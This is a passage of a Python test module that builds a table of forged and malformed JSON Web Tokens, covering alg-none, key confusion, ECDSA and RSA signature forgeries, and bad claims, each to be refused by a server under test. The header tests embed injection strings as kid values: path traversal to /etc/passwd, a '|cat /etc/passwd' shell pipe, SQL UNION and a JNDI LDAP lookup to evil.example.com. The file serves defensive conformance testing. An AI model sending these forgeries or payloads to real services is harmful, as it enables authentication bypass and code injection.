"""The table of attacks: forged, broken and foreign tokens, each sent to a real server with its expected code.

What is in it: RFC 8725's list, the kinds of case in Wycheproof's vectors for JSON Web Signatures, the holes
that JWT libraries have had (CVE-2015-9235, CVE-2018-0114, CVE-2022-21449 and their like), and two tokens that
Better Auth itself signs for other purposes. Every forged token starts from one that would be accepted.
"""

import hashlib
import hmac
import itertools
import json
import time
import zlib
from base64 import urlsafe_b64encode
from collections.abc import Callable, Iterator
from typing import Any, NamedTuple

import httpx
import jwt
import pytest
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, ed448, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature, encode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from conftest import SECRET, Server, launch_server, stop, until, wait_until_ready
from issuer import Issuer, running_issuer
from taskctl.errors import Unauthenticated
from taskctl.signing_keys import SigningKey, key_set, make_key
from taskctl.vocabulary import Algorithm

ASYMMETRIC = [algorithm for algorithm in Algorithm if algorithm is not Algorithm.HS256]
EDDSA, ES256, ES512, RS256, PS256 = ASYMMETRIC
KEYS = {algorithm: make_key(algorithm) for algorithm in (EDDSA, ES256, ES512)} | {
    algorithm: SigningKey(rsa.generate_private_key(65537, 2048), algorithm) for algorithm in (RS256, PS256)
}
FOREIGN = {algorithm: make_key(algorithm) for algorithm in (EDDSA, ES256)} | {
    RS256: SigningKey(rsa.generate_private_key(65537, 2048), RS256)
}
SMALL = rsa.generate_private_key(65537, 1024)  # noqa: S505 - it must not count
P384, ED448 = ec.generate_private_key(ec.SECP384R1()), ed448.Ed448PrivateKey.generate()
SYMMETRIC = b"published in the key set, and so no secret"

AUTH = "https://auth.example.com"
OTHER_SECRET = "another secret, which is long enough to sign"
PREVIOUS = "the previous secret that still verifies"
EVIL = "http://127.0.0.1:1"
NOW = int(time.time())
CLAIMS = {"iss": AUTH, "aud": AUTH, "sub": "ada", "iat": NOW, "exp": NOW + 3600}
NAMED = CLAIMS | {"iss": "https://a.example.com", "aud": "a"}
ABSENT = object()

ALGORITHM, SIGNATURE, KEY = "token_algorithm_not_allowed", "token_signature_invalid", "token_key_unknown"
MALFORMED, MISSING = "token_malformed", "token_claim_missing"
EXPIRED, EARLY = "token_expired", "token_not_yet_valid"
ISSUER, AUDIENCE = "token_issuer_wrong", "token_audience_wrong"


class Attack(NamedTuple):
    """One row: a token, and the code of the refusal that it must meet at one of the servers."""

    name: str
    token: str
    code: str
    server: str = "both"
    path: str = "/api/v1/me/tasks"


Rows = Iterator[Attack]
Sign = Callable[[bytes], bytes]


# The parts that tokens are made of.


def b64(data: bytes) -> str:
    return urlsafe_b64encode(data).rstrip(b"=").decode()


def compact(value: Any) -> bytes:
    """What is not bytes already, as JSON; members that are absent are left out."""
    if isinstance(value, bytes):
        return value
    if isinstance(value, dict):
        value = {name: member for name, member in value.items() if member is not ABSENT}
    return json.dumps(value, separators=(",", ":")).encode()


def jws(header: Any, claims: Any, sign: Sign) -> str:
    signed = f"{b64(compact(header))}.{b64(compact(claims))}"
    return f"{signed}.{b64(sign(signed.encode()))}"


def mac(secret: str | bytes = SECRET, digest: str = "sha256") -> Sign:
    return lambda data: hmac.digest(secret.encode() if isinstance(secret, str) else secret, data, digest)


def signs(key: SigningKey, algorithm: str = "") -> Sign:
    return lambda data: jwt.get_algorithm_by_name(algorithm or key.algorithm).sign(data, key.private)


def cut(sign: Sign, size: int) -> Sign:
    return lambda data: sign(data)[:size]


def always(signature: bytes) -> Sign:
    return lambda _: signature


def joined(size: int, r: int, s: int) -> bytes:
    return r.to_bytes(size, "big") + s.to_bytes(size, "big")


def ecdsa(private: Any, digest: hashes.HashAlgorithm, spell: Callable[[int, int], bytes]) -> Sign:
    return lambda data: spell(*decode_dss_signature(private.sign(data, ec.ECDSA(digest))))


def header_of(algorithm: str, **members: Any) -> dict[str, Any]:
    """The header that a good token of this algorithm has, with some members exchanged or absent."""
    kid = {} if algorithm == "HS256" else {"kid": KEYS[Algorithm(algorithm)].kid}
    return {"alg": str(algorithm), **kid, **members}


def good_claims(algorithm: str) -> dict[str, Any]:
    """An audience is wrong where none is configured, and the URL configures none for secrets."""
    return CLAIMS | {"aud": ABSENT} if algorithm == "HS256" else CLAIMS


def signer_of(algorithm: str) -> Sign:
    return mac() if algorithm == "HS256" else signs(KEYS[Algorithm(algorithm)])


def forged(algorithm: str, claims: Any = None, *, sign: Sign | None = None, **header: Any) -> str:
    """A token that is as good as what is exchanged in it."""
    claims = good_claims(algorithm) if claims is None else claims
    return jws(header_of(algorithm, **header), claims, sign or signer_of(algorithm))


GOOD = {algorithm: forged(algorithm) for algorithm in Algorithm}


# What the issuer publishes: the keys, two of them under one name, and some that must not count.

SAME_NAME = [KEYS[algorithm].public_jwk() | {"kid": "twice"} for algorithm in (ES256, RS256)]
IGNORED: list[tuple[dict[str, Any], str, Sign]] = [
    (KEYS[RS256].public_jwk() | {"kid": "for encryption", "use": "enc"}, RS256, signs(KEYS[RS256])),
    (KEYS[RS256].public_jwk() | {"kid": "to sign only", "key_ops": ["sign"]}, RS256, signs(KEYS[RS256])),
    (KEYS[RS256].public_jwk() | {"kid": "RS512", "alg": "RS512"}, RS256, signs(KEYS[RS256])),
    (KEYS[ES256].public_jwk() | {"kid": "P-521 in name", "crv": "P-521"}, ES512, signs(KEYS[ES512])),
    (SigningKey(SMALL, RS256).public_jwk() | {"kid": "1024 bits"}, RS256, signs(SigningKey(SMALL, RS256))),
    (
        SigningKey(P384, ES256).public_jwk() | {"kid": "P-384"},
        ES256,
        ecdsa(P384, hashes.SHA256(), lambda r, s: joined(48, r, s)),
    ),
]
PUBLISHED = [
    *key_set(KEYS.values())["keys"],
    *SAME_NAME,
    *(jwk for jwk, _, _ in IGNORED),
    {"kty": "oct", "kid": "symmetric", "alg": "HS256", "use": "sig", "k": b64(SYMMETRIC)},
]


# The table.


def broken_structure() -> Rows:
    """Parts missing, added, exchanged, cut and respelled, for every algorithm (Wycheproof)."""
    for algorithm, token in GOOD.items():
        header, claims, signature = token.split(".")
        other = b64(compact(good_claims(algorithm) | {"sub": "bob"}))
        unsigned = b64(compact(header_of(algorithm, alg="none")))
        respelled = b64(compact(header_of(algorithm, typ="JWT")))
        first = "B" if signature[0] == "A" else "A"
        half = signature[: len(signature) // 8 * 4]
        rows = {
            SIGNATURE: {
                "signature modified": f"{header}.{claims}.{first}{signature[1:]}",
                "signature missing": f"{header}.{claims}.",
                "signature halved": f"{header}.{claims}.{half}",
                "signature twice": f"{header}.{claims}.{half}{half}{half}",
                "signature of another token": f"{header}.{other}.{signature}",
                "header modified": f"{respelled}.{claims}.{signature}",
            },
            ALGORITHM: {"none with the signature": f"{unsigned}.{claims}.{signature}"},
            MALFORMED: {
                "signature and separator missing": f"{header}.{claims}",
                "claims missing": f"{header}..{signature}",
                "claims and separator missing": f"{header}.{signature}",
                "header missing": f".{claims}.{signature}",
                "header and separator missing": f"{claims}.{signature}",
                "empty fourth part": f"{token}.",
                "fourth part": f"{token}.Zm9v",
                "header twice": f"{header}.{token}",
                "signature of a length that no bytes have": f"{header}.{claims}.{half}A",
                "padding": f"{token}=",
                "padding in the header": f"{header}=.{claims}.{signature}",
                "space in the claims": f"{header}.{claims[:8]} {claims[8:]}.{signature}",
                "character of base64": f"{header}.{claims}.+/{signature[2:]}",
                "character of no base64": f"{header}.{claims}.!{signature[1:]}",
                "letter of another script": f"{header}.{claims}.é{signature[1:]}",
                "byte order mark in front": f"\ufeff{token}",
                "quoted": f'"{token}"',
                "percent-encoded": token.replace(".", "%2E"),
            },
        }
        for code, tokens in rows.items():
            for name, attack in tokens.items():
                yield Attack(f"{algorithm} {name}", attack, code)
    # 32 bytes leave two unused bits in the last character, 64 and 256 bytes four.
    for algorithm in (Algorithm.HS256, EDDSA, ES256):
        last = chr(ord(GOOD[algorithm][-1]) + 1)
        yield Attack(f"{algorithm} trailing bits", GOOD[algorithm][:-1] + last, MALFORMED)


def no_tokens_at_all() -> Rows:
    """What is no compact JWS: other serialisations, encrypted tokens, other things that people send."""
    header, claims, signature = GOOD[EDDSA].split(".")
    flat = {"protected": header, "payload": claims, "signature": signature}
    general = {"payload": claims, "signatures": [{"protected": header, "signature": signature}]}
    encrypted = b64(b'{"alg":"dir","enc":"A256GCM"}')
    yield Attack("JSON serialisation, flattened", compact(flat).decode(), MALFORMED)
    yield Attack("JSON serialisation, general", compact(general).decode(), MALFORMED)
    yield Attack("JWE of five parts", f"{encrypted}..{claims}.{claims}.{signature}", MALFORMED)
    yield Attack("JWE in three parts", f"{encrypted}.{claims}.{signature}", ALGORITHM)
    yield Attack("Better Auth's session token", "Dp8Wf0Yk3xVb5nQz7sLr2tGh9jMc4aEu", MALFORMED)
    yield Attack("Better Auth's signed cookie", "Dp8Wf0Yk3xVb5nQz.c2lnbmF0dXJlIG9mIGEgY29va2ll", MALFORMED)
    yield Attack("PASETO", "v4.public.eyJzdWIiOiJhZGEifQ.c2ln", MALFORMED)
    yield Attack("only claims", f".{claims}.", MALFORMED)
    for text in ("..", ".", "....", "null", "undefined", "[object Object]", "{}", "' OR 1=1 --", "%00"):
        yield Attack(f"the text {text}", text, MALFORMED)


def none() -> Rows:
    """Tokens without a signature, however `none` is written (CVE-2015-9235, CVE-2020-28042)."""
    for letters in itertools.product(*zip("none", "NONE", strict=True)):
        header = header_of("HS256", alg="".join(letters))
        yield Attack(f"alg {header['alg']}", jws(header, good_claims("HS256"), always(b"")), ALGORITHM)
    wide, cyrillic = "\uff4e\uff4f\uff4e\uff45", "n\u043ene"
    for alg in ("none ", " none", "none\0", wide, cyrillic, "", "null", "HS256\0", "hs256", "HS256 "):
        yield Attack(f"alg {alg!a}", forged("HS256", alg=alg), ALGORITHM)
    for alg in (None, 0, False, [], ["HS256"], ["none", "HS256"], {"HS256": 1}, ABSENT):
        shown = "absent" if alg is ABSENT else repr(alg)
        yield Attack(f"alg not text: {shown}", forged("HS256", alg=alg), MALFORMED)
    for algorithm in ASYMMETRIC:
        token = jws(header_of(algorithm, alg="none"), CLAIMS, always(b""))
        yield Attack(f"none with the kid of {algorithm}", token, ALGORITHM)
        yield Attack(f"{algorithm} at a server with a secret only", GOOD[algorithm], ALGORITHM, "secret")
    yield Attack("HS256 at a server with a key set only", forged("HS256", CLAIMS), ALGORITHM, "keys")
    other = ("HS384", "HS512", "RS384", "RS512", "PS384", "PS512", "ES384", "ES256K", "Ed25519", "Ed448")
    for alg in (*other, "RS1", "ML-DSA-44", "dir", "A128KW", "RSA-OAEP", "PBES2-HS256+A128KW"):
        yield Attack(f"alg {alg}", forged("RS256", alg=alg), ALGORITHM)


def public_keys_as_secrets() -> Rows:
    """HMAC over bytes that everybody knows, with and without the key's kid (CVE-2016-10555)."""
    for algorithm in (EDDSA, ES256, RS256):
        public = KEYS[algorithm].private.public_key()
        jwk = KEYS[algorithm].public_jwk()
        pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
        forms = {
            "PEM": pem,
            "PEM without its last newline": pem.rstrip(),
            "PEM with CR LF": pem.replace(b"\n", b"\r\n"),
            "PEM without its frame": b"".join(pem.splitlines()[1:-1]),
            "DER": public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
            "JWK": compact(jwk),
            "JWK with spaces": json.dumps(jwk).encode(),
            "key set": compact({"keys": [jwk]}),
            "kid": jwk["kid"].encode(),
            "x or n": (jwk.get("x") or jwk["n"]).encode(),
        }
        for (name, secret), kid in itertools.product(forms.items(), (ABSENT, jwk["kid"])):
            token = forged("HS256", sign=mac(secret), kid=kid)
            yield Attack(f"{name} of {algorithm} as secret, kid {kid is not ABSENT}", token, SIGNATURE)
        for digest in ("sha384", "sha512"):
            alg = f"HS{digest[3:]}"
            token = forged("HS256", sign=mac(pem, digest), alg=alg, kid=jwk["kid"])
            yield Attack(f"{alg} over the PEM of {algorithm}", token, ALGORITHM)
        token = forged("HS256", CLAIMS, sign=mac(pem), kid=jwk["kid"])
        yield Attack(f"PEM of {algorithm} as secret, key set only", token, ALGORITHM, "keys")
        yield Attack(
            f"{algorithm} in name, HMAC over its PEM in fact", forged(algorithm, sign=mac(pem)), SIGNATURE
        )
        yield Attack(
            f"{algorithm} in name, HMAC of the secret in fact", forged(algorithm, sign=mac()), SIGNATURE
        )
    published = forged("HS256", sign=mac(SYMMETRIC), kid="symmetric")
    yield Attack("a secret that the key set publishes", published, SIGNATURE)


def wrong_secrets() -> Rows:
    """Signed with HS256, and not with the secret."""
    secrets = {
        "another": OTHER_SECRET,
        "cut": SECRET[:-1],
        "with a newline": f"{SECRET}\n",
        "in other case": SECRET.upper(),
        "in base64": b64(SECRET.encode()),
        "in hex": SECRET.encode().hex(),
        "both, comma-separated": f"{SECRET},{PREVIOUS}",
        "Better Auth's default": "better-auth-secret-12345678901234567890",
        "changeme": "changeme",
    }
    for name, secret in secrets.items():
        yield Attack(f"secret: {name}", forged("HS256", sign=mac(secret)), SIGNATURE)
    for digest in ("sha1", "sha384", "sha512"):
        yield Attack(f"HS256 in name, {digest} in fact", forged("HS256", sign=mac(digest=digest)), SIGNATURE)
    for size in (1, 16, 31):
        token = forged("HS256", sign=cut(mac(), size))
        yield Attack(f"HS256 cut to {size} bytes", token, SIGNATURE)
    yield Attack(
        "HS256 over the digest", forged("HS256", sign=lambda data: hashlib.sha256(data).digest()), SIGNATURE
    )


def other_keys() -> Rows:
    """Signed with a key that is not the one that the kid names, or that the key set holds for nothing."""
    for key in FOREIGN.values():
        token = forged(key.algorithm, sign=signs(key))
        yield Attack(f"{key.algorithm}: the attacker's key under a kid that is published", token, SIGNATURE)
        token = forged(key.algorithm, sign=signs(key), kid=key.kid)
        yield Attack(f"{key.algorithm}: the attacker's key under its own kid", token, KEY)
    for named, used in itertools.permutations(ASYMMETRIC, 2):
        token = forged(used, kid=KEYS[named].kid)
        yield Attack(f"signed by {used} under the kid of {named}", token, ALGORITHM)
        token = forged(named, sign=signer_of(used))
        yield Attack(f"{named} in name, {used} in fact", token, SIGNATURE)
    for jwk, algorithm, sign in IGNORED:
        name = f"the key {jwk['kid']}, which must not count"
        yield Attack(name, forged(algorithm, sign=sign, kid=jwk["kid"]), KEY)
    for algorithm in (ES256, RS256):
        token = forged(algorithm, sign=signs(FOREIGN[algorithm]), kid="twice")
        yield Attack(f"{algorithm}: a kid that two kinds of key have", token, SIGNATURE)
    yield Attack(
        "ES256: no kid, and the attacker's key",
        forged(ES256, sign=signs(FOREIGN[ES256]), kid=ABSENT),
        SIGNATURE,
    )


def ecdsa_signatures() -> Rows:
    """ECDSA signatures that are none (CVE-2022-21449), or are spelled in another way (RFC 7518, 3.4)."""
    p256 = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
    p521 = 2**521 - 0x5AE79787C40D069948033FEB708F65A2FC44A36477663B851449048E16EC79BF7
    yield from ecdsa_forgeries(ES256, 32, p256, hashes.SHA256(), hashes.SHA512())
    yield from ecdsa_forgeries(ES512, 66, p521, hashes.SHA512(), hashes.SHA256())
    token = forged(ES256, sign=ecdsa(P384, hashes.SHA384(), lambda r, s: joined(48, r, s)))
    yield Attack("ES256 in name, P-384 in fact", token, SIGNATURE)


def ecdsa_forgeries(
    algorithm: Algorithm, size: int, n: int, right: hashes.HashAlgorithm, wrong: hashes.HashAlgorithm
) -> Rows:
    """For one curve, whose order is `n` and whose numbers take `size` bytes."""
    top = 2 ** (8 * size) - 1
    pairs = {
        "r=0 s=0": (0, 0),
        "r=0 s=1": (0, 1),
        "r=1 s=0": (1, 0),
        "r=1 s=1": (1, 1),
        "r=0 s=n": (0, n),
        "r=n s=0": (n, 0),
        "r=n s=n": (n, n),
        "r=n+1 s=1": (n + 1, 1),
        "r=1 s=n+1": (1, n + 1),
        "r=n-1 s=n-1": (n - 1, n - 1),
        "all ones": (top, top),
    }
    for name, (r, s) in pairs.items():
        yield Attack(f"{algorithm} {name}", forged(algorithm, sign=always(joined(size, r, s))), SIGNATURE)
    spellings: dict[str, Callable[[int, int], bytes]] = {
        "DER": encode_dss_signature,
        "s before r": lambda r, s: joined(size, s, r),
        "r without s": lambda r, _: r.to_bytes(size, "big"),
        "r negated": lambda r, s: joined(size, n - r, s),
        "a zero in front of each": lambda r, s: joined(size + 1, r, s),
        "a zero behind": lambda r, s: joined(size, r, s) + b"\0",
        "a zero in front": lambda r, s: b"\0" + joined(size, r, s),
        "the last byte missing": lambda r, s: joined(size, r, s)[:-1],
        "a recovery byte": lambda r, s: joined(size, r, s) + b"\x1b",
        "little endian": lambda r, s: r.to_bytes(size, "little") + s.to_bytes(size, "little"),
    }
    private = KEYS[algorithm].private
    for name, spell in spellings.items():
        yield Attack(f"{algorithm} {name}", forged(algorithm, sign=ecdsa(private, right, spell)), SIGNATURE)
    token = forged(algorithm, sign=ecdsa(private, wrong, lambda r, s: joined(size, r, s)))
    yield Attack(f"{algorithm} with {wrong.name}", token, SIGNATURE)


def eddsa_signatures() -> Rows:
    """EdDSA signatures with another scalar of the same remainder, trivial points, or of another curve."""
    order = 2**252 + 27742317777372353535851937790883648493
    private = KEYS[EDDSA].private

    def malleable(times: int) -> Sign:
        def sign(data: bytes) -> bytes:
            signature = private.sign(data)
            scalar = int.from_bytes(signature[32:], "little") + times * order
            return signature[:32] + scalar.to_bytes(32, "little")

        return sign

    one = b"\x01" + bytes(31)
    forgeries: dict[str, Sign] = {
        **{f"s + {times} L": malleable(times) for times in (1, 2, 8, 14)},
        "all zeros": always(bytes(64)),
        "the neutral point and zero": always(one + bytes(32)),
        "the neutral point and L": always(one + order.to_bytes(32, "little")),
        "no point at all": always(b"\xff" * 64),
        "r and s exchanged": lambda data: private.sign(data)[32:] + private.sign(data)[:32],
        "a zero behind": lambda data: private.sign(data) + b"\0",
        "the last byte missing": lambda data: private.sign(data)[:-1],
        "over the digest": lambda data: private.sign(hashlib.sha512(data).digest()),
        "over the claims alone": lambda data: private.sign(data.partition(b".")[2]),
        "Ed448": ED448.sign,
    }
    for name, sign in forgeries.items():
        yield Attack(f"EdDSA: {name}", forged(EDDSA, sign=sign), SIGNATURE)


def rsa_signatures() -> Rows:
    """RSA signatures with the other padding, a broken one, or no signature at all."""
    private = KEYS[RS256].private
    numbers = private.private_numbers()
    size = private.key_size // 8
    sha256 = bytes.fromhex("3031300d060960864801650304020105000420")

    def padded(make: Callable[[bytes], bytes]) -> Sign:
        """A signature of whatever `make` makes of the digest, as long as the key with 0xff in front."""

        def sign(data: bytes) -> bytes:
            end = make(hashlib.sha256(data).digest())
            message = b"\0\x01" + b"\xff" * (size - 3 - len(end)) + b"\0" + end
            return raw(message[:size])

        return sign

    def raw(message: bytes) -> bytes:
        return pow(int.from_bytes(message, "big"), numbers.d, numbers.public_numbers.n).to_bytes(size, "big")

    def plus_modulus(data: bytes) -> bytes:
        number = int.from_bytes(signs(KEYS[RS256])(data), "big") + numbers.public_numbers.n
        return number.to_bytes(size + 1, "big")

    forgeries: dict[str, Sign] = {
        "PSS": signs(KEYS[RS256], "PS256"),
        "SHA-384": signs(KEYS[RS256], "RS384"),
        "SHA-512": signs(KEYS[RS256], "RS512"),
        "the number 0": always(bytes(size)),
        "the number 1": always(bytes(size - 1) + b"\x01"),
        "the modulus": always(numbers.public_numbers.n.to_bytes(size, "big")),
        "the modulus added": plus_modulus,
        "a zero in front": lambda data: b"\0" + signs(KEYS[RS256])(data),
        "a zero behind": lambda data: signs(KEYS[RS256])(data) + b"\0",
        "no DigestInfo": padded(lambda digest: digest),
        "NULL missing": padded(
            lambda digest: bytes.fromhex("302f300b0609608648016503040201" + "0420") + digest
        ),
        "the OID of SHA-384": padded(
            lambda digest: sha256.replace(b"\x02\x01\x05", b"\x02\x02\x05") + digest
        ),
        "a longer length": padded(lambda digest: b"\x30\x81" + sha256[1:] + digest),
        "padding too short": padded(lambda digest: sha256 + digest + bytes(8)),
        "garbage behind": lambda data: raw(
            (b"\0\x01" + b"\xff" * 8 + b"\0" + sha256 + hashlib.sha256(data).digest()).ljust(size, b"\0")
        ),
        "block type 2": lambda data: raw(
            b"\0\x02" + b"\xff" * (size - 54) + b"\0" + sha256 + hashlib.sha256(data).digest()
        ),
        "over nothing": lambda _: signs(KEYS[RS256])(b""),
    }
    for name, sign in forgeries.items():
        yield Attack(f"RS256: {name}", forged(RS256, sign=sign), SIGNATURE)

    def pss(mask: hashes.HashAlgorithm, salt: int, digest: hashes.HashAlgorithm) -> Sign:
        scheme = padding.PSS(padding.MGF1(mask), salt)
        return lambda data: KEYS[PS256].private.sign(data, scheme, digest)

    forgeries = {
        "PKCS #1 v1.5": signs(KEYS[PS256], "RS256"),
        "no salt": pss(hashes.SHA256(), 0, hashes.SHA256()),
        "a short salt": pss(hashes.SHA256(), 20, hashes.SHA256()),
        "a long salt": pss(hashes.SHA256(), 64, hashes.SHA256()),
        "MGF1 with SHA-1": pss(hashes.SHA1(), 32, hashes.SHA256()),  # noqa: S303 - it must be refused
        "SHA-512": pss(hashes.SHA512(), 32, hashes.SHA512()),
        "the number 0": always(bytes(size)),
    }
    for name, sign in forgeries.items():
        yield Attack(f"PS256: {name}", forged(PS256, sign=sign), SIGNATURE)


def headers() -> Rows:
    """Headers that want to choose the key, fetch it, carry it, or change what is signed."""
    foreign = FOREIGN[RS256]
    kids = {
        "a path": "../../../../dev/null",
        "a file": "/etc/passwd",
        "SQL": "x' UNION SELECT 'secret' --",
        "a command": "|cat /etc/passwd",
        "a format": "%s%n{0}${jndi:ldap://evil.example.com}",
        "a URL": "http://evil.example.com/key",
        "a NUL": f"{KEYS[RS256].kid}\0",
        "control characters": "\r\nSet-Cookie: a=b\x1b[31m",
        "a lone surrogate": "\ud800",
        "a space behind": f"{KEYS[RS256].kid} ",
        "other case": KEYS[RS256].kid.swapcase(),
        "4000 characters": "k" * 4000,
        "the prototype": "__proto__",
        "nothing": "",
    }
    for name, kid in kids.items():
        yield Attack(f"kid: {name}", forged(RS256, sign=signs(foreign), kid=kid), KEY)
        token = forged(RS256, kid=kid)
        yield Attack(f"kid: {name}, signed by a key that is published", token, KEY)
    yield Attack("kid: null, and the attacker's key", forged(RS256, sign=signs(foreign), kid=None), SIGNATURE)
    no_texts = {
        "a number": 1,
        "a truth": True,
        "a list": [KEYS[RS256].kid],
        "an object": {"kid": KEYS[RS256].kid},
    }
    for name, value in no_texts.items():
        yield Attack(f"kid: {name}", forged(RS256, kid=value), MALFORMED)
    embedded = {
        "jwk": foreign.public_jwk(),
        "jku": f"{EVIL}/jwks",
        "x5u": f"{EVIL}/certificate",
        "x5c": ["MIIB"],
        "x5t": "AAAA",
        "x5t#S256": "AAAA",
    }
    for member, value in embedded.items():
        sign = signs(foreign)
        token = forged(RS256, sign=sign, kid=foreign.kid, **{member: value})
        yield Attack(f"{member} in the header", token, KEY)
        token = forged(RS256, sign=sign, **{member: value})
        yield Attack(f"{member} in the header, with a kid that is published", token, SIGNATURE)
    oct_key = {"kty": "oct", "k": b64(OTHER_SECRET.encode())}
    yield Attack("jwk: a secret", forged("HS256", sign=mac(OTHER_SECRET), jwk=oct_key), SIGNATURE)
    for algorithm in ("HS256", EDDSA):
        for value in (["exp"], ["b64"], [], None, "exp", ["unknown"], [1]):
            token = forged(algorithm, crit=value)
            yield Attack(f"{algorithm} crit {value!r}", token, MALFORMED)
        plain = compact(good_claims(algorithm)).decode()
        head = b64(compact(header_of(algorithm, b64=False, crit=["b64"])))
        signature = b64(signer_of(algorithm)(f"{head}.{plain}".encode()))
        yield Attack(f"{algorithm} claims not encoded (RFC 7797)", f"{head}.{plain}.{signature}", MALFORMED)
        yield Attack(f"{algorithm} detached claims", f"{head}..{signature}", MALFORMED)
        alg = compact(header_of(algorithm))[:-1]
        raw = {
            "alg twice": alg + b',"alg":"none"}',
            "alg twice, first none": b'{"alg":"none",' + alg[1:] + b"}",
            "alg twice, once escaped": alg + b',"\\u0061lg":"none"}',
            "kid twice": alg + b',"kid":"a","kid":"b"}',
            "a byte order mark": b"\xef\xbb\xbf" + alg + b"}",
            "UTF-16": (alg + b"}").decode().encode("utf-16"),
            "no UTF-8": alg + b',"x":"\xff\xfe"}',
            "overlong UTF-8": alg + b',"x":"\xc0\xaf"}',
            "a NUL behind": alg + b"}\0",
            "a comment": alg + b"/* */}",
            "a comma too many": alg + b",}",
            "NaN": alg + b',"x":NaN}',
            "a list": b"[" + alg + b"}]",
            "a text": b'"HS256"',
            "null": b"null",
            "nothing": b"",
            "2000 lists": alg + b',"x":' + b"[" * 2000 + b"]" * 2000 + b"}",
        }
        for name, header in raw.items():
            token = jws(header, good_claims(algorithm), signer_of(algorithm))
            yield Attack(f"{algorithm} header: {name}", token, MALFORMED)


def claims() -> Rows:
    """Claims absent, of a wrong type, out of time, or not JSON, properly signed, in both ways of trust."""
    types = {"a number": 1, "a truth": True, "a list": ["ada"], "an object": {"id": "ada"}}
    exchanged: dict[str, dict[str, dict[str, Any]]] = {
        MISSING: {
            "sub": {"absent": ABSENT, "null": None, "empty": ""},
            "exp": {"absent": ABSENT, "null": None},
        },
        MALFORMED: {
            "sub": {
                **types,
                "0": 0,
                "false": False,
                "256 characters": "u" * 256,
                "a NUL": "a\0",
                "a newline": "a\n",
                "DEL": "\x7f",
                "a control character": "\x9f",
                "a lone surrogate": "\ud800",
            },
            "exp": {
                "a text": str(NOW + 60),
                "an empty text": "",
                "a truth": True,
                "a list": [NOW + 60],
                "an object": {},
                "10^15": 10**15,
                "10^30": 10**30,
                "-10^15": -(10**15),
            },
            "nbf": {"a text": "0", "a truth": True, "a list": [0], "10^30": 10**30},
            "iat": {"a text": "now", "a truth": True, "a list": []},
            "iss": {**types, "a list of the right one": [AUTH]},
            "aud": {
                "a number": 1,
                "a truth": True,
                "an object": {AUTH: True},
                "a number too": [AUTH, 1],
                "a list in a list": [[AUTH]],
                "a null in a list": [None],
            },
            "scope": {**types, "null": None, "a list of scopes": ["tasks:read"]},
            "padding": {"8 KiB": "x" * 8192, "40 kB": "x" * 40_000},
        },
        EXPIRED: {
            "exp": {"an hour ago": NOW - 3600, "past the leeway": NOW - 31, "0": 0, "-1": -1, "tiny": 1e-300}
        },
        EARLY: {"nbf": {"in an hour": NOW + 3600, "in 30 years": NOW + 1e9}},
    }
    for algorithm in ("HS256", EDDSA):
        good = good_claims(algorithm)
        for code, members in exchanged.items():
            for name, values in members.items():
                for shown, value in values.items():
                    token = forged(algorithm, good | {name: value})
                    yield Attack(f"{algorithm} {name}: {shown}", token, code)
        for name, text in not_json(compact(good)[:-1]).items():
            yield Attack(f"{algorithm} claims: {name}", forged(algorithm, text), MALFORMED)
        nested = forged(algorithm, GOOD[algorithm].encode(), cty="JWT")
        yield Attack(f"{algorithm} a token in a token", nested, MALFORMED)
        deflated = zlib.compressobj(wbits=-15)
        token = forged(algorithm, deflated.compress(compact(good)) + deflated.flush(), zip="DEF")
        yield Attack(f"{algorithm} claims that are compressed", token, MALFORMED)


def not_json(good: bytes) -> dict[str, bytes]:
    """The good claims, open at their end, and something in them that RFC 8259 and RFC 7519 do not allow."""
    return {
        "sub twice": good + b',"sub":"bob"}',
        "sub twice, once escaped": good + b',"\\u0073ub":"bob"}',
        "exp twice": good + b',"exp":9999999999}',
        "twice within": good + b',"a":{"b":1,"b":2}}',
        "NaN": good + b',"nbf":NaN}',
        "Infinity": good + b',"a":Infinity}',
        "-Infinity": good + b',"a":-Infinity}',
        "1e400": good + b',"a":1e400}',
        "5000 digits": good + b',"a":' + b"9" * 5000 + b"}",
        "hexadecimal": good + b',"a":0x7f}',
        "a plus sign": good + b',"a":+1}',
        "a leading zero": good + b',"a":01}',
        "single quotes": b"{'sub':'ada'}",
        "a byte order mark": b"\xef\xbb\xbf" + good + b"}",
        "UTF-16": (good + b"}").decode().encode("utf-16"),
        "Latin-1": good + ',"name":"José"}'.encode("latin-1"),
        "a surrogate in UTF-8": good + b',"a":"\xed\xa0\x80"}',
        "overlong UTF-8": good + b',"a":"\xc0\xaf"}',
        "a raw newline in a text": good + b',"a":"\n"}',
        "more behind": good + b"}{}",
        "a NUL behind": good + b"}\0",
        "the end missing": good,
        "a list": b"[" + good + b"}]",
        "a text": b'"ada"',
        "null": b"null",
        "nothing": b"",
        "2000 lists": good + b',"a":' + b"[" * 2000 + b"]" * 2000 + b"}",
        "1000 objects": good + b',"a":' + b'{"a":' * 1000 + b"1" + b"}" * 1000 + b"}",
    }


def foreign_rules() -> Rows:
    """Tokens of another issuer, for another audience, or that meet only the other way of trust's rules."""
    for name in ("iss", "aud"):
        yield Attack(f"EdDSA {name} absent", forged(EDDSA, CLAIMS | {name: ABSENT}), MISSING)
        yield Attack(f"EdDSA {name} null", forged(EDDSA, CLAIMS | {name: None}), MISSING)
    evil, plain = "https://evil.example.com", AUTH.replace("https", "http")
    for text in (
        evil,
        f"{AUTH}.evil.example.com",
        f"{AUTH}/",
        f"{AUTH}:443",
        f" {AUTH}",
        AUTH.upper(),
        plain,
        "",
    ):
        yield Attack(f"EdDSA iss {text!r}", forged(EDDSA, CLAIMS | {"iss": text}), ISSUER)
        yield Attack(f"EdDSA aud {text!r}", forged(EDDSA, CLAIMS | {"aud": text}), AUDIENCE)
    for audiences in ([], [evil], [f"{AUTH},{evil}"], ["*"]):
        yield Attack(f"EdDSA aud {audiences}", forged(EDDSA, CLAIMS | {"aud": audiences}), AUDIENCE)
    for audience in (evil, [evil], [], "", f"{AUTH}/"):
        yield Attack(f"HS256 aud {audience!r}", forged("HS256", CLAIMS | {"aud": audience}), AUDIENCE)
    for algorithm in ("HS256", EDDSA):
        for name, code in (("iss", ISSUER), ("aud", AUDIENCE)):
            token = forged(algorithm, NAMED | {name: "https://b.example.com"})
